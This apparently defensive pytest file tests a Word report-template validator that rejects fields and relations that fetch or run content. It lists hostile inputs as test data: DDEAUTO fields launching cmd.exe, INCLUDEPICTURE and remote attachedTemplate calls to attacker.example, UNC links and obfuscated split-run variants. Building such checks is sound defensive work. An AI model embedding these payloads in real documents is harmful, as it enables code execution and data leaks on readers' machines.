"""Nothing of a template makes Word fetch or run something when the report is opened."""

import io
import zipfile
from collections.abc import Callable

import pytest
from docx.document import Document
from docx.opc.constants import CONTENT_TYPE, RELATIONSHIP_TYPE
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from hypothesis import given
from hypothesis import strategies as st

from handlers.report.template.dangers import instructions_in
from handlers.report.template.fields import sample_values
from handlers.report.template.rendering import fill_in
from tests.report_templates import EXAMPLE_FILE, refusal_of, template_of

W = nsdecls("w")
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
FETCHING = [
    r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"', r'DDE excel "\\server\x.xls" R1C1',
    r'INCLUDEPICTURE "http://attacker.example/x.png" \d', r'INCLUDETEXT "\\server\x.docx"', 'INCLUDE "x.docx"',
    r'LINK Excel.Sheet.8 "\\server\x.xls" R1C1 \a', 'IMPORT "http://attacker.example/x.png"', "MACROBUTTON Run x",
    r'DATABASE \c "DSN=x" \s "SELECT 1"', 'RD "x.docx"', "EMBED Package", "ADDIN x", "CONTROL x", "GOTOBUTTON a b",
    'ASK a "?"', 'FILLIN "?"', "AUTOTEXT x", "PRINT x", "HTMLCONTROL x", "  ddeauto x", "\u00a0DdeAuto x", "", "NOSUCH",
]  # fmt: skip


def simple(instruction: str) -> str:
    escaped = instruction.replace("&", "&amp;").replace('"', "&quot;")
    return f'<w:p {W}><w:fldSimple w:instr="{escaped}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'


def turn(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(text: str, element: str = "instrText") -> str:
    return f'<w:r><w:{element} xml:space="preserve">{text}</w:{element}></w:r>'


def paragraph(*runs: str) -> str:
    return f"<w:p {W}>{''.join(runs)}</w:p>"


def cut(instruction: str) -> str:
    """Each letter in a run of its own, as Word's own revisions leave it."""
    runs = (code(letter.replace("&", "&amp;")) for letter in instruction)
    return paragraph(turn("begin"), *runs, turn("separate"), code("x", "t"), turn("end"))


def with_xml(xml: str) -> bytes:
    return template_of("{{ unit }}", change=lambda document: document.element.body.insert(0, parse_xml(xml)))


@pytest.mark.parametrize("write", [simple, cut])
@pytest.mark.parametrize("instruction", FETCHING)
def test_every_field_that_fetches_runs_or_asks_is_refused(instruction: str, write: Callable[[str], str]) -> None:
    told = refusal_of(with_xml(write(instruction)))
    assert "trường" in told
    assert "trong document.xml" in told


@pytest.mark.parametrize(
    "xml",
    [
        paragraph(turn("begin"), code("DDE"), code("AUTO x", "delInstrText"), turn("end")),
        paragraph(turn("begin"), code("INCLUDETEXT x")),  # without an end
        paragraph(code("INCLUDETEXT x")),  # without a beginning
        paragraph(turn("begin"), turn("begin"), code("QUOTE DDEAUTO"), turn("end"), code(" x"), turn("end")),
        paragraph(turn("begin"), code("PAGE "), turn("begin"), code("LINK x"), turn("end"), turn("end")),
        paragraph(turn("begin"), code("DDE"), turn("begin"), code("QUOTE AUTO"), turn("end"), turn("end")),
        paragraph(turn("begin"), code("{{ 'DDE' ~ 'AUTO' }} x"), turn("end")),
        simple("{{ 'DDE' }}AUTO x"),
        paragraph(turn("begin"), code("LINK"), turn("separate")) + paragraph(turn("end")),
    ],
)
def test_a_field_is_found_however_it_is_hidden(xml: str) -> None:
    def put(document: Document) -> None:
        for index, element in enumerate(parse_xml(f"<w:body {W}>{xml}</w:body>")):
            document.element.body.insert(index, element)

    assert "trường" in refusal_of(template_of("{{ unit }}", change=put))


def test_a_field_that_only_filling_in_makes_is_refused() -> None:
    """What stands between the two conditions falls away, and what is left is another field."""
    condition, end = (f'<w:bookmarkStart w:id="9" w:name="{{% {tag} %}}"/>' for tag in ("if year == 2", "endif"))
    xml = paragraph(turn("begin"), condition, code("PAGE "), end, code("LINK x"), turn("end"))
    assert "trường “LINK x”" in refusal_of(with_xml(xml))


def _part(name: str, content_type: str, kind: str, root: str) -> Callable[[Document], None]:
    def add(document: Document) -> None:
        xml = f"<w:{root} {W}>{cut('INCLUDEPICTURE x')}</w:{root}>".encode()
        part = Part(PackURI(f"/word/{name}.xml"), content_type, xml, document.part.package)
        document.part.relate_to(part, f"{RELATIONS}/{kind}")

    return add


def _in_header(document: Document) -> None:
    document.sections[0].header._element.append(parse_xml(cut("DDEAUTO x")))


def _in_footer(document: Document) -> None:
    document.sections[0].first_page_footer._element.append(parse_xml(simple("DDEAUTO x")))


def _in_a_comment(document: Document) -> None:
    comment = document.add_comment(document.paragraphs[0].runs, text="x", author="x")
    comment._comment_elm.append(parse_xml(cut("DDEAUTO x")))


@pytest.mark.parametrize(
    ("file", "change"),
    [
        ("header", _in_header),
        ("footer", _in_footer),
        ("comments", _in_a_comment),
        ("footnotes9", _part("footnotes9", CONTENT_TYPE.WML_FOOTNOTES, "footnotes", "footnotes")),
        ("endnotes", _part("endnotes", CONTENT_TYPE.WML_ENDNOTES, "endnotes", "endnotes")),
        ("document", _part("glossary/document", CONTENT_TYPE.WML_DOCUMENT_GLOSSARY, "glossaryDocument", "glossary")),
        ("odd", _part("odd", "application/octet-stream", "header", "hdr")),
    ],
)
def test_every_part_of_the_file_is_looked_at(file: str, change: Callable[[Document], None]) -> None:
    assert f"trong {file}" in refusal_of(template_of("{{ unit }}", change=change))


@pytest.mark.parametrize("instruction", ["PAGE", " page \\* MERGEFORMAT", "PAGE\\* arabic", '=SUM(ABOVE) \\# "0"',
                                         'TOC \\o "1-3" \\h \\z', "NUMPAGES ", 'DATE \\@ "dd/MM/yyyy"',
                                         'HYPERLINK "https://so-thu.example"'])  # fmt: skip
def test_page_numbers_dates_and_tables_of_contents_are_no_danger(instruction: str) -> None:
    for write in (simple, cut):
        assert fill_in(with_xml(write(instruction)), sample_values())
    assert fill_in(with_xml(simple("DOCPROPERTY {{ unit }}")), sample_values())


def test_the_example_is_harmless() -> None:
    assert fill_in(EXAMPLE_FILE, sample_values())


@given(st.lists(st.text("DEAUTOx =\t", max_size=4), min_size=1, max_size=6), st.lists(st.booleans(), min_size=6))
def test_an_instruction_is_read_the_same_however_it_is_cut(pieces: list[str], nested: list[bool]) -> None:
    runs, expected = [], ""
    for piece, has_inner in zip(pieces, nested, strict=False):
        inner = (turn("begin"), code("PAGE"), turn("separate"), code("7"), turn("end")) if has_inner else ()
        runs += [code(piece), *inner]
        expected += piece + ("\x00" if has_inner else "")
    xml = paragraph(turn("begin"), *runs, turn("separate"), code("result", "t"), turn("end"))
    *inner_ones, outer = instructions_in(parse_xml(xml))
    assert outer == expected
    assert set(inner_ones) <= {"PAGE"}


def _related(kind: str, target: str) -> Callable[[Document], None]:
    def relate(document: Document) -> None:
        document.part.relate_to(target, f"{RELATIONS}/{kind}", is_external=True)

    return relate


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("image", "http://attacker.example/x.png"),
        ("oleObject", "file:///C:/x.xls"),
        ("attachedTemplate", "https://attacker.example/x.dotm"),
        ("attachedTemplate", r"\\attacker.example\x.dotm"),
        ("attachedTemplate", "file://attacker.example/x.dotm"),
        ("frame", "http://attacker.example"),
        ("mailMergeSource", "file:///C:/x.xlsx"),
        ("subDocument", "x.docx"),
    ],
)
def test_every_relation_to_outside_is_refused(kind: str, target: str) -> None:
    assert "tải nội dung từ nơi khác" in refusal_of(template_of("{{ unit }}", change=_related(kind, target)))


def test_relations_of_headers_and_of_the_file_itself_are_looked_at() -> None:
    def of_header(document: Document) -> None:
        document.sections[0].header.part.relate_to("http://attacker.example/x", RELATIONSHIP_TYPE.IMAGE, True)

    def of_file(document: Document) -> None:
        document.part.package.rels.get_or_add_ext_rel(f"{RELATIONS}/image", "http://attacker.example/x")

    for change in (of_header, of_file):
        assert "attacker.example" in refusal_of(template_of("{{ unit }}", change=change))


@pytest.mark.parametrize("kind", ["aFChunk", "oleObject", "package", "control", "subDocument"])
def test_what_is_embedded_is_refused_whatever_its_file_is_called(kind: str) -> None:
    def embed(document: Document) -> None:
        part = Part(PackURI("/word/media/image9.png"), "image/png", b"<html>", document.part.package)
        document.part.relate_to(part, f"{RELATIONS}/{kind}")

    assert "đối tượng nhúng" in refusal_of(template_of("{{ unit }}", change=embed))


def test_addresses_in_old_drawings_and_mail_merges_are_refused() -> None:
    vml = 'xmlns:v="urn:schemas-microsoft-com:vml"'
    drawing = f'<w:p {W} {vml}><w:r><w:pict><v:rect><v:fill src="http://a.example/x"/></v:rect></w:pict></w:r></w:p>'
    assert "a.example" in refusal_of(with_xml(drawing))

    def merge(document: Document) -> None:
        source = f'<w:mailMerge {W}><w:connectString w:val="Data Source=x"/></w:mailMerge>'
        document.settings.element.append(parse_xml(source))

    assert "mail merge" in refusal_of(template_of("{{ unit }}", change=merge))


def test_a_template_made_in_word_on_one_s_own_computer_is_taken() -> None:
    made = template_of("{{ unit }}", change=_related("attachedTemplate", "file:///C:/Users/x/Mau.dotm"))
    assert zipfile.ZipFile(io.BytesIO(fill_in(made, sample_values())))
